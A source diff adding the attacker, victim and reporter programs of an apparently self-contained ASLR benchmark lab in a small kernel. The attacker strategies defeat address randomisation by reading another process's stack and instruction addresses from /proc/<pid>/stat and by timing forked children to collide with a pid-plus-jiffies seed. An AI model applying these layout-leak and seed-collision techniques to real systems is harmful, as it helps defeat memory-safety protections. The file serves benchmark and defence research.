@@ -1,0 +1,274 @@
+/*
+ * The attack lab's programs (kernel/attack/lab.c runs them):
+ *   lab victim                  a root daemon: sleeps in the kernel until the trial ends
+ *   lab attack STRATEGY HZ      the attacker, uid 1000: only system calls and /proc
+ *   lab report                  submits this process's own layout as a guess
+ * Guesses go to the kernel with __NR_aslrbench_lab(SUBMIT, region, value), in
+ * the order the attacker would try them.  HZ is the kernel's tick rate, which
+ * an attacker knows from the distribution's published kernel configuration.
+ */
+#include "kernel/user/lib/ulib.h"
+
+#define OP_PARK	  1
+#define OP_READY  2
+#define OP_SUBMIT 3
+#define STACK	  0
+#define MMAP	  1
+#define EXE	  2
+#define POOL	  21 /* collision: 3 children for each sum offset in -3..3 */
+#define PAGE	  4096ULL
+
+static long lab(long op, long a, long b)
+{
+	return syscall3(__NR_aslrbench_lab, op, a, b);
+}
+
+static void submit(int region, uint64_t v)
+{
+	lab(OP_SUBMIT, region, (long)v);
+}
+
+static long slurp(const char *path, char *buf, long cap)
+{
+	long fd = open(path, 0), n, total = 0;
+
+	if (fd < 0)
+		return fd;
+	while (total < cap - 1 && (n = read((int)fd, buf + total, (size_t)(cap - 1 - total))) > 0)
+		total += n;
+	close((int)fd);
+	buf[total] = '\0';
+	return total;
+}
+
+static uint64_t hex(const char *s)
+{
+	uint64_t v = 0;
+
+	for (;; s++) {
+		if (*s >= '0' && *s <= '9')
+			v = v * 16 + (uint64_t)(*s - '0');
+		else if (*s >= 'a' && *s <= 'f')
+			v = v * 16 + (uint64_t)(*s - 'a' + 10);
+		else
+			return v;
+	}
+}
+
+/* Field k (1-based) of /proc/<pid>/stat, as a number; 0 when unreadable. */
+static uint64_t stat_field(const char *pid, int k, char *state)
+{
+	char path[40], buf[1024], *p;
+	int f = 2;
+
+	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
+	if (slurp(path, buf, sizeof(buf)) <= 0)
+		return 0;
+	for (p = buf + strlen(buf); p > buf && *p != ')'; p--)
+		;
+	if (state)
+		*state = p[2];
+	for (p++; *p && f < k; p++)
+		if (*p == ' ')
+			f++;
+	return (uint64_t)atol(p);
+}
+
+/* The victim's pid: the process whose cmdline is "lab victim". */
+static int find_victim(void)
+{
+	for (int tries = 0; tries < 1000; tries++) {
+		int pids[64];
+		long n = syscall2(__NR_getdents_pids, pids, 64);
+
+		for (long i = 0; i < n; i++) {
+			char path[40], buf[64];
+
+			snprintf(path, sizeof(path), "/proc/%d/cmdline", pids[i]);
+			if (slurp(path, buf, sizeof(buf)) == 11 && !memcmp(buf, "lab\0victim", 11))
+				return pids[i];
+		}
+		sleep_ms(4);
+	}
+	return -1;
+}
+
+/* This process's layout from its own maps (always readable) and a probe mmap. */
+static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
+{
+	char maps[4096], *line = maps;
+	long m;
+
+	slurp("/proc/self/maps", maps, sizeof(maps));
+	*exe = hex(maps);
+	*stack_top = 0;
+	while (*line) {
+		char *end = line;
+
+		while (*end && *end != '\n')
+			end++;
+		if (end - line > 7 && !strncmp(end - 7, "[stack]", 7)) {
+			char *dash = line;
+
+			while (*dash != '-')
+				dash++;
+			*stack_top = hex(dash + 1);
+		}
+		line = *end ? end + 1 : end;
+	}
+	m = mmap_anon(PAGE, 3); /* the first mapping sits right below mmap_base */
+	*mmap_base = m > 0 ? (uint64_t)m + PAGE : 0;
+	if (m > 0)
+		munmap((void *)m, PAGE);
+}
+
+static int report(void)
+{
+	uint64_t st, mb, ex;
+
+	own_layout(&st, &mb, &ex);
+	submit(STACK, st);
+	submit(MMAP, mb);
+	submit(EXE, ex);
+	return 0;
+}
+
+/* One uniform guess per region, in the ranges the rules allow (profile from our own stack). */
+static void brute_force(void)
+{
+	uint64_t st, mb, ex, r[3];
+	int ia32;
+
+	own_layout(&st, &mb, &ex);
+	ia32 = st < (1ULL << 32);
+	getrandom(r, sizeof(r), 0);
+	submit(STACK, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) -
+			      (r[0] & ((1ULL << (ia32 ? 11 : 22)) - 1)) * PAGE);
+	submit(MMAP, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) - (128ULL << 20) -
+			     (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
+	submit(EXE, (ia32 ? 0xaaaaa000ULL : 0x555555554000ULL) +
+			    (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
+}
+
+/* The patch's leak: startstack bounds the stack top; kstkeip sits in the victim's code. */
+static void proc_leak(const char *vpid)
+{
+	char state = 0;
+	uint64_t ss, eip, own_eip, own_exe, dummy;
+
+	for (int i = 0; i < 500 && state != 'S'; i++) {
+		stat_field(vpid, 3, &state); /* wait until it sleeps in the kernel */
+		if (state != 'S')
+			sleep_ms(4);
+	}
+	ss = stat_field(vpid, 28, 0);
+	eip = stat_field(vpid, 30, 0);
+	/* The same program's syscall site, relative to our own base. */
+	own_eip = stat_field("self", 30, 0);
+	own_layout(&dummy, &dummy, &own_exe);
+	if (ss) {
+		uint64_t top = (ss + PAGE - 1) & ~(PAGE - 1);
+
+		/* argv, auxv and arch_align_stack's < 8 KiB lie between: three pages. */
+		for (int k = 0; k < 3; k++)
+			submit(STACK, top + (uint64_t)k * PAGE);
+	}
+	if (eip && own_eip)
+		submit(EXE, eip - (own_eip - own_exe));
+	if (!ss || !eip)
+		brute_force(); /* the leak is closed: nothing better than a guess */
+}
+
+/* Uptime in jiffies, from /proc/uptime's centiseconds. */
+static uint64_t now_jiffies(long hz)
+{
+	char buf[64], *p = buf;
+	uint64_t cs;
+
+	slurp("/proc/uptime", buf, sizeof(buf));
+	cs = (uint64_t)atol(p) * 100;
+	while (*p && *p != '.')
+		p++;
+	if (*p)
+		cs += (uint64_t)atol(p + 1);
+	return cs * (uint64_t)hz / 100;
+}
+
+/*
+ * ipid-2.6.29 is a function of pid + jiffies: a process of ours whose pid +
+ * jiffies at exec equals the victim's gets the victim's layout.  Children
+ * forked before the victim have smaller pids; each waits until jiffies =
+ * victim_pid + victim_jiffies - own_pid (+ a small offset covering the
+ * centisecond resolution of stat's start time) and then execs.
+ */
+static void collision_child(int idx, long hz)
+{
+	char vpid[12], *argv[] = {"lab", "report", 0};
+	int victim = find_victim();
+	long offset = idx % 7 - 3;
+	uint64_t start_cs, vj, target, now;
+
+	if (victim < 0)
+		exit(1);
+	snprintf(vpid, sizeof(vpid), "%d", victim);
+	start_cs = stat_field(vpid, 22, 0);
+	vj = start_cs * (uint64_t)hz / 100 + (uint64_t)hz / 200;
+	target = (uint64_t)victim + vj - (uint64_t)getpid() + (uint64_t)offset;
+	now = now_jiffies(hz);
+	if (target > now + 1)
+		sleep_ms((unsigned)((target - now - 1) * 1000 / (uint64_t)hz));
+	syscall3(__NR_execve, "lab", argv, 0);
+	exit(1);
+}
+
+static int attack(const char *strategy, long hz)
+{
+	int status, victim;
+	char vpid[12];
+
+	if (!strcmp(strategy, "pid-jiffies-collision")) {
+		for (int i = 0; i < POOL; i++) {
+			long pid = fork();
+
+			if (pid == 0)
+				collision_child(i, hz);
+			if (pid < 0)
+				break;
+		}
+		lab(OP_READY, 0, 0);
+		while (wait4(-1, &status, 0, 0) > 0)
+			;
+		return 0;
+	}
+	if (!strcmp(strategy, "state-replay")) {
+		/* The latest layout we can observe is our own newest child's. */
+		long pid = spawn("lab", (char *const[]){"lab", "report", 0});
+
+		if (pid > 0)
+			wait4((int)pid, &status, 0, 0);
+		lab(OP_READY, 0, 0);
+		return find_victim() > 0 ? 0 : 1;
+	}
+	lab(OP_READY, 0, 0);
+	victim = find_victim();
+	if (victim < 0)
+		return 1;
+	snprintf(vpid, sizeof(vpid), "%d", victim);
+	if (!strcmp(strategy, "proc-leak"))
+		proc_leak(vpid);
+	else
+		brute_force();
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc >= 2 && !strcmp(argv[1], "victim"))
+		return lab(OP_PARK, 0, 0) == 0 ? 0 : 1;
+	if (argc >= 2 && !strcmp(argv[1], "report"))
+		return report();
+	if (argc >= 4 && !strcmp(argv[1], "attack"))
+		return attack(argv[2], atol(argv[3]));
+	printf("usage: lab victim | lab report | lab attack STRATEGY HZ\n");
+	return 2;
+}
